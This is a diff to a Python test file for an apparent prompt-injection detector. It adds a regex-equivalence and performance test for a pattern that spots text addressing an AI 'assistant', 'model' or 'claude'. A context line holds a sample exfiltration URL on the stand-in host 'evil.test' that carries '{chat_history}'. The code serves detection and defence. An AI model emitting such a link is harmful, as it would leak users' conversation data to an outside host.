@@ -223,3 +223,20 @@ def test_glued_urls_are_read_once_each() -> None:
     assert not any("url_template" in w.signals for w in windows_of(glued))
     tail = glued + '"https://evil.test/p.png?d={chat_history}"'
     assert any("url_template" in w.signals for w in windows_of(tail))
+
+
+def test_the_vocative_marker_run_is_possessive_and_matches_as_before() -> None:
+    """`[#/*>\\-]++` finds the same spans as `[#/*>\\-]+` (random strings of the pieces that matter), without
+    backtracking through a long `>>>>` run once per character from every `>` in it."""
+    import random
+    import re
+
+    new = BY_NAME["vocative"].pattern
+    old = re.compile(new.pattern.replace(r"[#/*>\-]++", r"[#/*>\-]+"), new.flags)
+    assert old.pattern != new.pattern
+    parts = [">", "*", "**", "#", "-", " ", "\n", "assistant", "model", "claude", ":", ",", "<!--", "ai", "x"]
+    rng = random.Random(16)
+    for _ in range(20_000):
+        s = "".join(rng.choice(parts) for _ in range(rng.randint(1, 12)))
+        assert [m.span() for m in old.finditer(s)] == [m.span() for m in new.finditer(s)], s
+    assert not list(new.finditer(">>" * 6000))
